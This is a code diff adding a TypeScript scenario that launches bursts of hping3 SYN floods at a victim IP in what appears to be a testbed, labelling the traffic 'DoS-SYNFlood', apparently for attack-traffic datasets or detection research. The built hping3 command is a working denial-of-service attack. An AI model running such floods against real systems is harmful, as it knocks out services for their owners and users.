@@ -1,0 +1,50 @@
+// SYN flood with hping3 from the scenario host's own address (no spoofing: the source labels the
+// flows). Bursts at a few hundred to ~2,000 SYNs/s, modest enough for a 2-core testbed; hping3's
+// default source port increments per packet, so every SYN is a new flow for the victim.
+import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
+import { Budget, firstErrorLine, runTool } from "./bounded.ts";
+import { intBetween, pickWeighted } from "./random.ts";
+
+const MAX_PACKETS_PER_BURST = 30_000;
+
+async function runSynFlood(ctx: ScenarioContext): Promise<ScenarioResult> {
+  const { rng } = ctx;
+  const budget = new Budget(ctx.durationMs);
+  const ports = [ctx.services.web.port, ctx.services.ssh.port, ctx.services.ftp.port];
+  const maxBursts = intBetween(rng, 1, 4);
+  let sent = 0;
+  let answered = 0;
+  const bursts: string[] = [];
+  const problems: string[] = [];
+  for (let i = 0; i < maxBursts && budget.allows(1_500); i++) {
+    // Mostly the web server, as SYN floods usually are.
+    const port = pickWeighted(rng, [[ports[0]!, 6], [ports[1]!, 1], [ports[2]!, 1]]);
+    const rate = intBetween(rng, 400, 2_000);
+    const intervalUs = Math.round(1e6 / rate);
+    const seconds = Math.min(budget.remainingMs() / 1_000, intBetween(rng, 4, 15));
+    const count = Math.max(1, Math.min(MAX_PACKETS_PER_BURST, Math.round(rate * seconds)));
+    const argv = ["hping3", "-S", "-p", String(port), "-i", `u${intervalUs}`, "-c", String(count), "-q", ctx.victimIp];
+    ctx.log(argv.join(" "));
+    // usleep overhead makes hping3 slower than its interval: allow twice the nominal time.
+    const run = await runTool(ctx, budget, argv, { maxMs: (count / rate) * 2_000 + 3_000 });
+    // The statistics go to stderr.
+    const stats = /(\d+) packets transmitted, (\d+) packets received/.exec(run.stderr);
+    if (stats) {
+      sent += Number(stats[1]);
+      answered += Number(stats[2]);
+    } else {
+      // Killed before its summary: estimate from the time it ran.
+      sent += Math.min(count, Math.round((run.elapsedMs / 1_000) * rate));
+      if (!run.killed) problems.push(firstErrorLine(run));
+    }
+    bursts.push(`${count}@${rate}/s→:${port}`);
+    await budget.pause(intBetween(rng, 300, 2_000));
+  }
+  const notes = [`${bursts.length} bursts (${bursts.join(", ")}), ${answered} answered`];
+  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
+  return { actions: sent, note: notes.join(", ") };
+}
+
+export const SYN_FLOOD_SCENARIOS: Scenario[] = [
+  { id: "hping3-syn-flood", label: "DoS-SYNFlood", description: "hping3 -S SYN flood bursts, mostly to the web port", run: runSynFlood },
+];
